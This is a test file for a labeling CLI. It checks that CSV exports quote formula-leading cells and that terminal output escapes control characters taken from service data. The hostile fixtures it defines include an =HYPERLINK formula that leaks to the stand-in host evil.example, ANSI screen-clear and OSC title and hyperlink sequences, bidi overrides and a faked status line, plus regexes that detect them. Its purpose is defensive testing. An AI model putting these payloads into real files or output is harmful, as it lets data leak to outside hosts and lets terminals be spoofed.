/* eslint-disable no-control-regex -- the test looks for control characters in what the CLI printed */
// Issue 40 items 3 and 5: text from the service is data. Label, set and document names chosen by
// anyone who can edit a project reach `labels --csv` and `eval --errors` (a spreadsheet must not
// run them: OWASP's leading `'`) and every terminal output (a control character must be shown,
// never acted on). Everything runs over real HTTP on 127.0.0.1: the emulator, the CLI's client,
// and a stub model.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLabelingClient, startAutoLabel, waitForJob } from '../../src/client/index.js';
import { main } from '../../src/cli/main.js';
import { startEmulator } from '../../src/emulator/index.js';
import type { RunningEmulator } from '../../src/emulator/index.js';
import { startStubModel } from '../support/stubModel.js';
import type { SeenRequest, StubModel } from '../support/stubModel.js';
import { argv, fakeIo } from '../support/fakeIo.js';

const PROJECT = 'hostile';
const MODEL = 'model@example.com';
const BROKEN = 'broken@example.com';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")';
const SUM = '@SUM(1+1)';
const CLEAR = 'DATE\u001b[2J\u001b[H';
const OSC8 = 'LINK\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007';
const TITLE = 'CR\r\u001b]0;pwned\u0007';
const SET = 'Entities\u001b[31m\u009b2J\u202e';
const FILE = '=1+1.txt';
const LINES = ['-1+2 and +3 go here', 'plain line two'];
/** What a model answers with 400: it would clear the screen and fake a status line. */
const MODEL_BODY = '\u001b[2J\u001b[H\u001b[32mjob DELIVERED 100%\u001b[0m';

const at = (line: number, text: string) => ({ line, start_char: LINES[line]!.indexOf(text), end_char: LINES[line]!.indexOf(text) + text.length, text });
const GOLD = [
  { ...at(0, '-1+2'), label: HYPERLINK },
  { ...at(0, 'go'), label: CLEAR },
  { ...at(1, 'plain'), label: OSC8 },
  { ...at(1, 'two'), label: SUM },
];
const PREDICTED: Record<number, { label: string; start_char: number; end_char: number }[]> = {
  0: [{ ...at(0, '-1+2'), label: SUM }, { ...at(0, '+3'), label: HYPERLINK }, { ...at(0, 'go'), label: CLEAR }],
  1: [{ ...at(1, 'two'), label: TITLE }],
};

let emu: RunningEmulator;
let model: StubModel;
let broken: StubModel;
let failedJobId: string;
let tmp: string;
let env: Record<string, string>;

beforeAll(async () => {
  emu = await startEmulator({ demoProject: false, model: { retries: 0 } });
  emu.emulator.store.addProject({
    id: PROJECT,
    labelSets: [
      {
        name: SET,
        labels: [
          { id: 'hl', name: HYPERLINK },
          { id: 'sum', name: SUM },
          { id: 'clear', name: CLEAR },
          { id: 'osc', name: OSC8 },
          { id: 'title', name: TITLE },
        ],
      },
    ],
    documents: [{ id: 'doc', name: FILE, lines: LINES }],
  });
  emu.emulator.store.setReviewLabels(PROJECT, 'doc', GOLD);
  model = await startStubModel((request: SeenRequest) => ({
    kind: 'json',
    body: { id: request.id, documents: request.documents.map((d) => ({ id: d.id, labels: d.sentences.map((s) => ({ id: s.id, entities: PREDICTED[s.id] ?? [] })) })) },
  }));
  broken = await startStubModel(() => ({ kind: 'status', status: 400, body: MODEL_BODY }));
  const client = createLabelingClient({ url: emu.url, token: emu.token, poll: { intervalMs: 20 } });
  try {
    const job = await startAutoLabel(client, { projectId: PROJECT, labelerEmail: MODEL, options: { numberOfFilesPerRequest: 0 }, targetAPI: { endpoint: model.url, secretKey: 'model-secret' } });
    expect((await waitForJob(client, job.id, { timeoutMs: 20_000 })).outcome).toBe('delivered');
    const failing = await startAutoLabel(client, { projectId: PROJECT, labelerEmail: BROKEN, options: { numberOfFilesPerRequest: 0 }, targetAPI: { endpoint: broken.url, secretKey: 'model-secret' } });
    failedJobId = failing.id;
    await waitForJob(client, failing.id, { timeoutMs: 20_000 }).catch(() => undefined);
  } finally {
    client.close();
  }
  tmp = await mkdtemp(join(tmpdir(), 'labelkit-service-text-'));
  env = { LABELKIT_URL: emu.url, LABELKIT_TOKEN: emu.token };
}, 30_000);

afterAll(async () => {
  await Promise.all([emu?.close(), model?.close(), broken?.close()]);
  if (tmp) await rm(tmp, { recursive: true, force: true });
});

async function cli(args: string[], extraEnv: Record<string, string> = {}) {
  const io = fakeIo({ ...env, ...extraEnv });
  const code = await main(argv(...args), io);
  return { code, out: io.out(), err: io.err() };
}

/** The cells a spreadsheet would see: RFC 4180 parsing, as a spreadsheet's importer does. */
const spreadsheetCells = (text: string) => (parse(text, { relax_column_count: false }) as string[][]).flat();
/** OWASP's formula characters (and tab and CR), also in their full-width forms. */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe('CSV files hold text, never a formula (OWASP CSV injection)', () => {
  it('eval --errors writes every cell that starts with = + - @ with a leading quote, and nothing else changed', async () => {
    const file = join(tmp, 'err.csv');
    const { code, err } = await cli(['eval', '--project', PROJECT, '--labeler', MODEL, '--errors', file]);
    expect({ code, err }).toEqual({ code: 0, err: expect.any(String) });
    const rows = parse(await readFile(file, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(0);
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    // The hostile values are there, as text: the quote is the only change.
    expect(cells).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${SUM}`, `'${FILE}`, "'-1+2", "'+3"]));
    expect(rows.find((r) => r.gold_text === "'-1+2")).toMatchObject({ gold_label: `'${HYPERLINK}`, predicted_label: `'${SUM}`, file: `'${FILE}` });
  });

  it('labels --csv prints every such cell with a leading quote', async () => {
    const { code, out } = await cli(['labels', '--project', PROJECT, '--csv']);
    expect(code).toBe(0);
    const cells = spreadsheetCells(out);
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${SUM}`, `'${FILE}`, "'-1+2"]));
  });
});

/** Every character a terminal acts on: C0 but line feed, DEL, C1, bidirectional overrides. */
const ACTS_ON_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** The same, but the colour sequences labelkit writes itself (SGR) are allowed. */
const actsBesidesColour = (text: string) => ACTS_ON_TERMINAL.test(text.replace(/\u001b\[[0-9;]*m/g, ''));

describe('control characters from the service are shown escaped on the terminal', () => {
  const outputs: [string, string[], Record<string, string>?][] = [
    ['label-sets', ['label-sets', '--project', PROJECT, '--role', 'REVIEWER']],
    ['label-sets in colour', ['label-sets', '--project', PROJECT, '--role', 'REVIEWER'], { FORCE_COLOR: '1' }],
    ['label-sets --json', ['label-sets', '--project', PROJECT, '--role', 'REVIEWER', '--json']],
    ['labels', ['labels', '--project', PROJECT]],
    ['labels --csv', ['labels', '--project', PROJECT, '--csv']],
    ['eval', ['eval', '--project', PROJECT, '--labeler', MODEL]],
    ['eval --format markdown', ['eval', '--project', PROJECT, '--labeler', MODEL, '--format', 'markdown']],
    ['export (a label CoNLL cannot hold)', ['export', '--project', PROJECT, '--format', 'conll', '--out', 'never-written.conll']],
  ];
  for (const [name, args, extra] of outputs) {
    it(`${name}: no character a terminal acts on, the names shown escaped`, async () => {
      const { out, err } = await cli(args, extra);
      expect(actsBesidesColour(out + err), JSON.stringify(out + err)).toBe(false);
      if (extra?.FORCE_COLOR) expect(out).toContain('\u001b['); // labelkit's own colours are kept
    });
  }

  it('label-sets shows each hostile name as its escaped text', async () => {
    const { code, out } = await cli(['label-sets', '--project', PROJECT, '--role', 'REVIEWER'], { FORCE_COLOR: '1' });
    expect(code).toBe(0);
    expect(out).toContain('DATE\\u001b[2J\\u001b[H');
    expect(out).toContain('LINK\\u001b]8;;http://evil.example/\\u0007click\\u001b]8;;\\u0007');
    expect(out).toContain('CR\\r\\u001b]0;pwned\\u0007');
    expect(out).toContain('Entities\\u001b[31m\\u009b2J\\u202e');
  });

  it('the --json outputs stay JSON that means the same names', async () => {
    const { out } = await cli(['label-sets', '--project', PROJECT, '--role', 'REVIEWER', '--json']);
    const names = (JSON.parse(out) as { labelSets: { name: string; labelItems: { labelName: string }[] }[] }).labelSets.flatMap((s) => [s.name, ...s.labelItems.map((l) => l.labelName)]);
    expect(names).toEqual([SET, HYPERLINK, SUM, CLEAR, OSC8, TITLE]);
  });

  it('export names the label it refuses, escaped', async () => {
    const { code, err } = await cli(['export', '--project', PROJECT, '--format', 'conll', '--out', join(tmp, 'x.conll')]);
    expect(code).toBe(2);
    expect(err).toContain('CR\\r\\u001b]0;pwned\\u0007');
  });

  it('jobs shows a model’s 400 body escaped: it cannot clear the screen or fake a status line', async () => {
    const { out, err } = await cli(['jobs', failedJobId]);
    expect(out + err).toContain('\\u001b[2J\\u001b[H\\u001b[32mjob DELIVERED 100%');
    expect(actsBesidesColour(out + err), JSON.stringify(out + err)).toBe(false);
    const json = await cli(['jobs', failedJobId, '--json']);
    expect(actsBesidesColour(json.out + json.err)).toBe(false);
    expect(JSON.stringify(JSON.parse(json.out))).toContain('job DELIVERED 100%');
  });
});
